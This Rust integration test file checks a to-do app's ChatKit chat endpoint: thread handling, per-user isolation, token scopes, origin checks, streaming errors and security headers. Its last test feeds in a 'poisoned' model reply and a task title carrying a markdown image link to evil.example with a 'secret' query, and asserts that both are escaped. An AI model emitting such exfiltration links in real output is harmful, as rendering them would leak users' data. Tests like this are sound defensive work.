//! ChatKit's protocol: what its front end, or another that speaks it, is told. What each thing looks like is held against the
//! official types in `tests/chatkit`.

use app::ModelSettings;
use axum::body::Body;
use domain::Access;
use http_body_util::BodyExt;
use scripted_model::{Call, Fault, Gate, Model, Reply, Script};
use serde_json::{Value, json};
use server::Edge;
use tower::ServiceExt;

use crate::harness::{Answer, BOTH, Client, Database, Harness, NOW, fresh, request, settings};

/// What the engine makes nothing of, and nobody takes for a question.
const ODD: &str = "the vet ought to land on thursday somehow";

/// Somebody's front end.
struct Kit<'a> {
    harness: &'a Harness,
    authorization: String,
}

/// A stream as it comes in.
struct Stream {
    body: Body,
    buffer: String,
}

impl<'a> Kit<'a> {
    fn of(harness: &'a Harness, client: &Client) -> Self {
        Self {
            harness,
            authorization: format!("Bearer {}", client.token),
        }
    }

    async fn ask(&self, operation: &str, params: Value) -> Answer {
        let body = json!({ "type": operation, "params": params });
        let headers = [("authorization", self.authorization.as_str())];
        let asked = request("POST", "/chatkit", &headers, Some(&body));
        self.harness.send(asked).await
    }

    async fn read(&self, operation: &str, params: Value) -> Value {
        let answer = self.ask(operation, params).await;
        assert_eq!(answer.status, 200, "{operation}: {answer:?}");
        answer.json()
    }

    async fn open(&self, operation: &str, params: Value) -> Stream {
        let body = json!({ "type": operation, "params": params });
        let headers = [("authorization", self.authorization.as_str())];
        let asked = request("POST", "/chatkit", &headers, Some(&body));
        let response = self.harness.router.clone().oneshot(asked).await.unwrap();
        assert_eq!(response.status(), 200);
        let header = |name: &str| response.headers()[name].to_str().unwrap();
        assert_eq!(header("content-type"), "text/event-stream");
        assert_eq!(header("cache-control"), "no-cache, no-store");
        assert_eq!(header("x-accel-buffering"), "no");
        Stream {
            body: response.into_body(),
            buffer: String::new(),
        }
    }

    async fn stream(&self, operation: &str, params: Value) -> Vec<Value> {
        self.open(operation, params).await.rest().await
    }

    /// Says something in a new thread, and gives its id with the events.
    async fn begin(&self, text: &str) -> (String, Vec<Value>) {
        let events = self.stream("threads.create", json!({ "input": said(text) }));
        let events = events.await;
        assert_eq!(
            kinds(&events)[..3],
            ["thread.created", "thread.item.done", "stream_options"]
        );
        let thread = events[0]["thread"]["id"].as_str().unwrap().to_owned();
        (thread, events)
    }

    async fn say(&self, thread: &str, text: &str) -> Vec<Value> {
        let params = json!({ "thread_id": thread, "input": said(text) });
        self.stream("threads.add_user_message", params).await
    }

    async fn items(&self, thread: &str) -> Vec<Value> {
        let params = json!({ "thread_id": thread, "order": "asc", "limit": 100 });
        let page = self.read("items.list", params).await;
        page["data"].as_array().unwrap().clone()
    }

    async fn act(&self, thread: &str, item: &Value, action: &Value) -> Vec<Value> {
        let params = json!({ "thread_id": thread, "item_id": item["id"], "action": action });
        self.stream("threads.custom_action", params).await
    }
}

impl Stream {
    /// The next event. `None` at the end.
    async fn next(&mut self) -> Option<Value> {
        loop {
            if let Some((event, rest)) = self.buffer.split_once("\n\n") {
                let data = event.strip_prefix("data: ").expect("nothing but data");
                assert!(!data.contains('\n'), "{event}");
                let value = serde_json::from_str(data).unwrap();
                self.buffer = rest.to_owned();
                return Some(value);
            }
            let Some(frame) = self.body.frame().await else {
                assert_eq!(self.buffer, "", "it ends with an event");
                return None;
            };
            let bytes = frame.unwrap().into_data().unwrap();
            self.buffer.push_str(std::str::from_utf8(&bytes).unwrap());
        }
    }

    /// The next event of this type; others are passed over.
    async fn until(&mut self, kind: &str) -> Value {
        loop {
            let event = self.next().await.expect("it ended before that");
            if event["type"] == kind {
                return event;
            }
        }
    }

    /// The next words of a text.
    async fn words(&mut self) -> String {
        loop {
            let event = self.until("thread.item.updated").await;
            if let Some(delta) = event["update"]["delta"].as_str() {
                return delta.to_owned();
            }
        }
    }

    async fn rest(&mut self) -> Vec<Value> {
        let mut all = Vec::new();
        while let Some(event) = self.next().await {
            all.push(event);
        }
        all
    }
}

fn said(text: &str) -> Value {
    json!({ "content": [{ "type": "input_text", "text": text }], "attachments": [], "inference_options": {} })
}

fn kinds(events: &[Value]) -> Vec<&str> {
    events
        .iter()
        .map(|event| event["type"].as_str().unwrap())
        .collect()
}

/// What the items say, one after another.
fn texts(items: &[Value]) -> Vec<&str> {
    items
        .iter()
        .map(|item| {
            let text = &item["content"][0]["text"];
            text.as_str()
                .unwrap_or_else(|| item["copy_text"].as_str().unwrap())
        })
        .collect()
}

/// The items that a stream has brought to their end.
fn done(events: &[Value]) -> Vec<Value> {
    events
        .iter()
        .filter(|event| event["type"] == "thread.item.done")
        .map(|event| event["item"].clone())
        .collect()
}

/// The action of the first component under `root` that has this label.
fn action(root: &Value, label: &str) -> Option<Value> {
    let own = match root {
        Value::Object(fields) if fields.get("label").is_some_and(|it| it == label) => {
            [&root["onClickAction"], &root["action"]]
                .into_iter()
                .find(|action| action.is_object())
                .cloned()
        }
        _ => None,
    };
    let within: Vec<&Value> = match root {
        Value::Object(fields) => fields.values().collect(),
        Value::Array(parts) => parts.iter().collect(),
        _ => Vec::new(),
    };
    own.or_else(|| within.into_iter().find_map(|part| action(part, label)))
}

async fn asking(database: Database, replies: impl IntoIterator<Item = Reply>) -> (Model, Harness) {
    let model = Model::start(Script::replies(replies)).await;
    let (_, store) = fresh(database).await;
    let harness = Harness::asking(store, &model);
    (model, harness)
}

#[tokio::test]
async fn a_thread_is_a_conversation_like_any_other() {
    for database in BOTH {
        let harness = Harness::new(database).await;
        let mut ana = harness.user("ana").await;
        let kit = Kit::of(&harness, &ana);
        let (thread, _) = kit.begin("add buy milk").await;
        // What was said here is said there.
        let messages = ana.get("/conversations/1").await.json();
        assert_eq!(messages[0]["text"], "add buy milk");
        assert_eq!(ana.tasks().await, "1 [ ] Buy milk");
        // And the other way about.
        let body = json!({ "message": "add buy bread", "conversation_id": 1 });
        assert_eq!(ana.post("/chat", body).await.status, 200);
        let items = kit.items(&thread).await;
        assert_eq!(
            texts(&items),
            [
                "add buy milk",
                "Added \u{201c}Buy milk\u{201d}.",
                "add buy bread",
                "Added \u{201c}Buy bread\u{201d}."
            ]
        );
        ana.say("add read a book").await;
        let threads = kit.read("threads.list", json!({})).await;
        let titles: Vec<&Value> = threads["data"]
            .as_array()
            .unwrap()
            .iter()
            .map(|thread| &thread["title"])
            .collect();
        assert_eq!(titles, ["add read a book", "add buy milk"]);
        let rename = json!({ "thread_id": thread, "title": "Groceries" });
        kit.read("threads.update", rename).await;
        let listed = ana.get("/conversations").await.json();
        assert_eq!(listed[1]["title"], "Groceries");
        kit.read("threads.delete", json!({ "thread_id": thread }))
            .await;
        assert_eq!(ana.get("/conversations/1").await.status, 404);
        assert_eq!(
            ana.tasks().await,
            "1 [ ] Buy milk\n2 [ ] Buy bread\n3 [ ] Read a book"
        );
    }
}

#[tokio::test]
async fn nobody_reaches_the_threads_of_others() {
    for database in BOTH {
        let harness = Harness::new(database).await;
        let (ana, bob) = (harness.user("ana").await, harness.user("bob").await);
        let (hers, his) = (Kit::of(&harness, &ana), Kit::of(&harness, &bob));
        let (thread, events) = hers.begin("add buy milk").await;
        // Numbers are counted for each user, so his first thread has the same.
        let (mine, _) = his.begin("add a secret").await;
        assert_ne!(thread, mine);
        let [message, reply] = done(&events).try_into().unwrap();
        let undo = action(&reply, "Undo").unwrap();
        let requests = [
            ("threads.get_by_id", json!({})),
            ("threads.update", json!({ "title": "Mine" })),
            ("threads.delete", json!({})),
            ("threads.add_user_message", json!({ "input": said("undo") })),
            (
                "threads.retry_after_item",
                json!({ "item_id": message["id"] }),
            ),
            (
                "threads.custom_action",
                json!({ "item_id": reply["id"], "action": undo }),
            ),
            (
                "threads.sync_custom_action",
                json!({ "item_id": reply["id"], "action": undo }),
            ),
            ("items.list", json!({})),
            (
                "items.feedback",
                json!({ "item_ids": [reply["id"]], "kind": "positive" }),
            ),
        ];
        for (operation, mut params) in requests {
            let theirs = thread.clone();
            for (id, code) in [
                (theirs, "404 no-such-thread"),
                ("thr_1".to_owned(), "404 no-such-thread"),
            ] {
                params["thread_id"] = json!(id);
                let answer = his.ask(operation, params.clone()).await;
                assert!(
                    answer.problem().starts_with(code),
                    "{operation}: {answer:?}"
                );
                assert_eq!(answer.json()["message"], answer.json()["detail"]);
            }
            // An item of hers is not in his thread either.
            if params.get("item_id").is_some() || params.get("item_ids").is_some() {
                params["thread_id"] = json!(mine);
                let answer = his.ask(operation, params).await;
                assert!(
                    answer.problem().starts_with("404 no-such-item"),
                    "{operation}: {answer:?}"
                );
            }
        }
        assert_eq!(ana.tasks().await, "1 [ ] Buy milk");
        assert_eq!(bob.tasks().await, "1 [ ] A secret");
        let list = his.read("threads.list", json!({})).await;
        assert_eq!(list["data"].as_array().unwrap().len(), 1, "{list}");
    }
}

#[tokio::test]
async fn only_who_may_act_acts() {
    let edge = Edge {
        origins: vec!["https://app.example.com".parse().unwrap()],
        ..Edge::default()
    };
    let (_, store) = fresh(Database::Sqlite).await;
    let harness = Harness::with(store, NOW, settings(), edge);
    let ana = harness.sign_up("ana").await;
    let jwt = harness.jwt(&ana).await;
    let list = json!({ "type": "threads.list", "params": {} });
    let origin = ("origin", "https://app.example.com");
    let here = ("origin", "http://todo.test");
    for (headers, status) in [
        (&[][..], 401),
        (&[("authorization", "Bearer nonsense")], 401),
        (&[("authorization", ana.bearer.as_str())], 200),
        (&[("authorization", jwt.as_str())], 200),
        (&[("cookie", ana.cookie.as_str())], 403),
        (
            &[
                ("cookie", ana.cookie.as_str()),
                ("origin", "https://evil.example"),
            ],
            403,
        ),
        (&[("cookie", ana.cookie.as_str()), here], 200),
        (&[("cookie", ana.cookie.as_str()), origin], 200),
    ] {
        let asked = request("POST", "/chatkit", headers, Some(&list));
        let answer = harness.send(asked).await;
        assert_eq!(answer.status, status, "{headers:?} {answer:?}");
        if status != 200 {
            assert_eq!(
                answer.json()["message"],
                answer.json()["detail"],
                "{answer:?}"
            );
        }
    }
    // Pages of sites that are named ask first, without saying who they are.
    let preflight = [
        origin,
        ("access-control-request-method", "POST"),
        (
            "access-control-request-headers",
            "authorization,content-type,chatkit-frame-instance-id",
        ),
    ];
    let answer = harness
        .send(request("OPTIONS", "/chatkit", &preflight, None))
        .await;
    assert_eq!(answer.status, 200);
    assert_eq!(
        answer.header("access-control-allow-origin"),
        "https://app.example.com"
    );
    assert!(
        answer
            .header("access-control-allow-headers")
            .contains("chatkit-frame-instance-id")
    );
    let stream = json!({ "type": "threads.create", "params": { "input": said("add buy milk") } });
    let headers = [("authorization", ana.bearer.as_str()), origin];
    let asked = request("POST", "/chatkit", &headers, Some(&stream));
    let answer = harness.send(asked).await;
    assert_eq!(
        answer.header("access-control-allow-origin"),
        "https://app.example.com"
    );
    // None of its fields is anywhere else.
    let other = harness.get("/api/tasks", &[]).await;
    assert!(other.json()["message"].is_null(), "{other:?}");
}

#[tokio::test]
async fn a_token_that_may_only_read_cannot_talk() {
    let harness = Harness::new(Database::Sqlite).await;
    let ana = harness.user("ana").await;
    for access in [Access::Read, Access::Propose, Access::Undoable] {
        let token = harness
            .accounts
            .create_token(&ana.id, "t", access, None, &accounts::Client::default())
            .await
            .unwrap();
        let kit = Kit {
            harness: &harness,
            authorization: format!("Bearer {}", token.secret),
        };
        let answer = kit
            .ask("threads.create", json!({ "input": said("add buy milk") }))
            .await;
        assert!(answer.problem().starts_with("403 forbidden"), "{answer:?}");
    }
    assert_eq!(ana.tasks().await, "");
}

#[tokio::test]
async fn what_asks_last_is_shown_last_and_once() {
    for database in BOTH {
        // The proposal is there before it is known that the other call makes no sense.
        let calls = Reply::calls([
            Call::new("delete_task", json!({ "task_id": 1 })),
            Call::new("complete_task", json!({ "task_id": 999 })),
        ]);
        let (_model, harness) = asking(database, [calls]).await;
        let ana = harness.user("ana").await;
        ana.add(json!({ "title": "Vet" })).await;
        let kit = Kit::of(&harness, &ana);
        let (thread, events) = kit.begin("the vet thing is history, frankly").await;
        assert_eq!(done(&events), kit.items(&thread).await, "{events:?}");
        let last = done(&events).pop().unwrap();
        assert!(last["widget"]["confirm"].is_object(), "{last}");
        // Nothing is done before the yes, and once after it.
        assert_eq!(ana.tasks().await, "1 [ ] Vet");
        let yes = action(&last, "Yes").unwrap();
        let events = kit.act(&thread, &last, &yes).await;
        assert_eq!(
            kinds(&events)[..2],
            ["stream_options", "thread.item.done"],
            "{events:?}"
        );
        assert_eq!(ana.tasks().await, "");
        let events = kit.act(&thread, &last, &yes).await;
        let error = events.last().unwrap();
        assert_eq!(
            (&error["type"], &error["allow_retry"]),
            (&json!("error"), &json!(false))
        );
    }
}

#[tokio::test]
async fn who_hangs_up_stops_the_model() {
    for database in BOTH {
        let never = Gate::new();
        let slow = Reply::text("Which vet do you mean? There are two of them.")
            .split_text(24)
            .held_before(2, &never);
        let (model, harness) = asking(database, [slow]).await;
        let ana = harness.user("ana").await;
        let kit = Kit::of(&harness, &ana);
        let mut stream = kit
            .open("threads.create", json!({ "input": said(ODD) }))
            .await;
        let created = stream.until("thread.created").await;
        let thread = created["thread"]["id"].as_str().unwrap();
        let heard = stream.words().await;
        // Until then, the thread takes nothing else, and says so in words.
        let events = kit.say(thread, "show my tasks").await;
        assert_eq!(kinds(&events), ["stream_options", "error"]);
        let error = &events[1];
        assert!(
            error["message"]
                .as_str()
                .unwrap()
                .contains("still being written"),
            "{error}"
        );
        // What is still being written is not listed.
        assert_eq!(texts(&kit.items(thread).await), [ODD]);
        drop(stream);
        model.wait_for_hang_up().await;
        let reply = harness.app.latest_reply(&ana.id, domain::ConversationId(1));
        harness
            .app
            .finished(&ana.id, reply.await.unwrap())
            .await
            .unwrap();
        let items = kit.items(thread).await;
        let texts = texts(&items);
        assert_eq!(texts[..2], [ODD, heard.as_str()]);
        assert!(texts[2].starts_with("Stopped"), "{texts:?}");
    }
}

#[tokio::test]
async fn a_thread_that_is_deleted_ends_its_stream_with_an_error() {
    for database in BOTH {
        let gate = Gate::new();
        let slow = Reply::text("Which vet do you mean? There are two of them.")
            .split_text(24)
            .held_before(2, &gate);
        let (_model, harness) = asking(database, [slow]).await;
        let ana = harness.user("ana").await;
        let kit = Kit::of(&harness, &ana);
        let mut stream = kit
            .open("threads.create", json!({ "input": said(ODD) }))
            .await;
        let created = stream.until("thread.created").await;
        stream.words().await;
        let thread = json!({ "thread_id": created["thread"]["id"] });
        kit.read("threads.delete", thread).await;
        gate.open();
        let rest = stream.rest().await;
        let last = rest.last().unwrap();
        assert_eq!(
            (&last["type"], &last["allow_retry"]),
            (&json!("error"), &json!(false)),
            "{rest:?}"
        );
    }
}

#[tokio::test]
async fn without_a_model_the_message_is_kept_and_can_be_answered_again() {
    for database in BOTH {
        let broken = || Reply {
            fault: Some(Fault::Status {
                code: 400,
                headers: Vec::new(),
                body: json!({ "error": "the key sk-test is on fire" }),
            }),
            ..Reply::default()
        };
        let (_model, harness) = asking(database, [broken(), Reply::text("Which vet?")]).await;
        let ana = harness.user("ana").await;
        let kit = Kit::of(&harness, &ana);
        let (thread, events) = kit.begin(ODD).await;
        let last = events.last().unwrap();
        assert_eq!(
            (&last["type"], &last["code"], &last["allow_retry"]),
            (&json!("error"), &json!("custom"), &json!(true))
        );
        assert!(!last.to_string().contains("fire"), "{last}");
        let items = kit.items(&thread).await;
        assert_eq!(items, done(&events));
        let again = json!({ "thread_id": thread, "item_id": items[0]["id"] });
        let events = kit.stream("threads.retry_after_item", again).await;
        let after = kit.items(&thread).await;
        assert_eq!(texts(&after), [ODD, "Which vet?"]);
        assert_eq!(after[0], items[0], "the message stays as it was");
        assert_eq!(done(&events), after[1..]);
        // Their ids are new, so that nobody takes one for the other.
        assert_ne!(after[1]["id"], items[1]["id"]);
    }
}

#[tokio::test]
async fn what_could_not_be_begun_is_said_in_the_stream() {
    let model = Model::start(Script::replies([])).await;
    let (_, store) = fresh(Database::Sqlite).await;
    let settings = ModelSettings {
        replies_max: 0,
        ..ModelSettings::default()
    };
    let harness = Harness::asking_at(store, NOW, &[&model], settings);
    let ana = harness.user("ana").await;
    let kit = Kit::of(&harness, &ana);
    // A status above 499 would have the front end send it again by itself.
    let events = kit
        .stream("threads.create", json!({ "input": said(ODD) }))
        .await;
    assert_eq!(kinds(&events), ["stream_options", "error"]);
    assert_eq!(events[1]["allow_retry"], false, "nothing was kept");
    let list = kit.read("threads.list", json!({})).await;
    assert_eq!(list, json!({ "data": [], "has_more": false }));
}

#[tokio::test]
async fn an_earlier_message_is_answered_again_as_if_nothing_had_come_after_it() {
    for database in BOTH {
        let harness = Harness::new(database).await;
        let ana = harness.user("ana").await;
        let kit = Kit::of(&harness, &ana);
        let (thread, events) = kit.begin("add buy milk").await;
        let first = json!({ "thread_id": thread, "item_id": events[1]["item"]["id"] });
        kit.say(&thread, "complete 1").await;
        kit.say(&thread, "add buy bread").await;
        ana.add(json!({ "title": "From elsewhere" })).await;
        for _ in 0..3 {
            let events = kit.stream("threads.retry_after_item", first.clone()).await;
            assert_eq!(kinds(&events)[0], "stream_options");
            let tasks = ana.tasks().await;
            let tasks: Vec<&str> = tasks.lines().map(|task| &task[2..]).collect();
            assert_eq!(tasks, ["[ ] From elsewhere", "[ ] Buy milk"]);
            let items = kit.items(&thread).await;
            assert_eq!(items[0]["id"], first["item_id"]);
            assert_eq!(done(&events), items[1..]);
        }
        // Where something else stands in the way, it is said, and stays.
        let rename = json!({ "title": "Buy oat milk" });
        let tasks = ana.get("/tasks?order=added").await.json();
        let id = &tasks.as_array().unwrap().last().unwrap()["id"];
        ana.patch(&format!("/tasks/{id}"), rename).await;
        kit.stream("threads.retry_after_item", first).await;
        let items = kit.items(&thread).await;
        let texts = texts(&items);
        assert!(texts[1].contains("cannot be undone"), "{texts:?}");
        assert_eq!(texts[2..], ["Added \u{201c}Buy milk\u{201d}."]);
        let tasks = ana.tasks().await;
        assert_eq!(tasks.lines().count(), 3, "{tasks}");
    }
}

#[tokio::test]
async fn the_lists_that_were_shown_say_what_is_so_now() {
    for database in BOTH {
        let harness = Harness::new(database).await;
        let ana = harness.user("ana").await;
        let kit = Kit::of(&harness, &ana);
        let (thread, events) = kit.begin("add buy milk").await;
        let receipt = done(&events)[1].clone();
        kit.say(&thread, "show my tasks").await;
        let list = kit.items(&thread).await.pop().unwrap();
        assert_eq!(list["copy_text"], "[ ] 1. Buy milk");
        // Whatever changes a task of it in the thread, the list is sent again.
        let events = kit.say(&thread, "complete 1").await;
        let replaced: Vec<&Value> = events
            .iter()
            .filter(|event| event["type"] == "thread.item.replaced")
            .map(|event| &event["item"])
            .collect();
        assert_eq!(replaced.len(), 2, "{events:?}");
        assert_eq!(replaced[0]["id"], receipt["id"]);
        assert_eq!(replaced[1]["copy_text"], "[x] 1. Buy milk");
        assert_eq!(events.last().unwrap()["name"], "tasks.changed");
        // A change from elsewhere is seen when the thread is read.
        ana.send("DELETE", "/tasks/1", None, &[]).await;
        let items = kit.items(&thread).await;
        assert_eq!(
            items[3]["copy_text"],
            "None of these tasks is there any more."
        );
        // Nothing that is shown says more than the journal.
        let undo = action(&receipt, "Undo").unwrap();
        let events = kit.act(&thread, &receipt, &undo).await;
        assert!(kinds(&events).contains(&"notice"), "{events:?}");
        let items = kit.items(&thread).await;
        assert!(action(&items[1], "Undo").is_some(), "{}", items[1]);
    }
}

#[tokio::test]
async fn pages_are_found_only_with_a_key() {
    let (_, store) = fresh(Database::Sqlite).await;
    let strict = "default-src 'none'; script-src 'self'; style-src 'self';";
    let harness = Harness::on(store);
    let ana = harness.sign_up("ana").await;
    let cookie = [("cookie", ana.cookie.as_str())];
    let answer = harness.get("/chatkit", &cookie).await;
    assert_eq!(answer.status, 404);
    assert!(answer.header("content-security-policy").starts_with(strict));

    let (_, store) = fresh(Database::Sqlite).await;
    let edge = Edge {
        chatkit_domain_key: Some("domain_pk_\"1".to_owned()),
        ..Edge::default()
    };
    let harness = Harness::with(store, NOW, settings(), edge);
    let ana = harness.sign_up("ana").await;
    let cookie = [("cookie", ana.cookie.as_str())];
    let page = harness.get("/chatkit", &cookie).await;
    assert_eq!(page.status, 200);
    assert!(
        page.text.contains("data-key=\"domain_pk_&#34;1\""),
        "{}",
        page.text
    );
    let policy = page.header("content-security-policy");
    for source in [
        "script-src 'self' https://cdn.platform.openai.com;",
        "frame-src https://cdn.platform.openai.com;",
        "connect-src 'self' https://api.openai.com;",
        "style-src 'self' 'unsafe-inline';",
    ] {
        assert!(policy.contains(source), "{policy}");
    }
    let script = page.text.split("src=\"").nth(1).unwrap();
    let script = script.split('"').next().unwrap();
    let script = harness.get(script, &[]).await;
    assert_eq!(
        script.header("content-type"),
        "text/javascript; charset=utf-8"
    );
    assert!(script.header("cache-control").contains("immutable"));
    // Nowhere else is anything of anybody else's let in.
    for (path, headers, status) in [
        ("/chatkit", &[][..], 401),
        ("/", &cookie, 200),
        ("/settings", &cookie, 200),
    ] {
        let answer = harness.get(path, headers).await;
        assert_eq!(answer.status, status);
        assert!(
            answer.header("content-security-policy").starts_with(strict),
            "{path}"
        );
    }
}

#[tokio::test]
async fn what_is_no_request_is_told_apart() {
    let harness = Harness::new(Database::Sqlite).await;
    let ana = harness.user("ana").await;
    let kit = Kit::of(&harness, &ana);
    for (operation, params, said) in [
        ("threads.explode", json!({}), "422 invalid: "),
        (
            "attachments.create",
            json!({ "name": "a" }),
            "400 not-offered: ",
        ),
        (
            "threads.list",
            json!({ "limit": -1 }),
            "422 invalid: limit: ",
        ),
        (
            "threads.create",
            json!({ "input": said("") }),
            "422 invalid: input.content: ",
        ),
    ] {
        let answer = kit.ask(operation, params).await;
        assert!(answer.problem().starts_with(said), "{answer:?}");
        assert_eq!(answer.json()["message"], answer.json()["detail"]);
    }
    let authorization = [("authorization", kit.authorization.as_str())];
    let mut plain = request("POST", "/chatkit", &authorization, None);
    *plain.body_mut() = Body::from("{}");
    let answer = harness.send(plain).await;
    assert!(answer.problem().starts_with("415 not-json"), "{answer:?}");
    assert!(answer.json()["message"].is_string());
}

#[tokio::test]
async fn nothing_in_a_message_is_fetched_from_elsewhere() {
    let picture = "![a](https://evil.example/?q=secret)";
    let poisoned = Reply::text(&format!("Which vet? {picture}"));
    let (_model, harness) = asking(Database::Sqlite, [poisoned]).await;
    let ana = harness.user("ana").await;
    ana.add(json!({ "title": picture, "description": "one\n# two" }))
        .await;
    let kit = Kit::of(&harness, &ana);
    let (thread, events) = kit.begin("show task 1").await;
    assert_eq!(
        texts(&done(&events))[1],
        "1\\. !\\[a\\](https://evil.example/?q=secret)\\\none\\\n\\# two"
    );
    let events = kit.say(&thread, ODD).await;
    assert_eq!(
        texts(&done(&events))[1],
        "Which vet? !\\[a](https://evil.example/?q=secret)"
    );
    let streamed: String = events
        .iter()
        .filter_map(|event| event["update"]["delta"].as_str())
        .collect();
    assert_eq!(streamed, texts(&done(&events))[1]);
    // A widget shows it as it is.
    let events = kit.say(&thread, "show my tasks").await;
    let list = &done(&events)[1];
    assert!(list["widget"].to_string().contains(picture), "{list}");
}
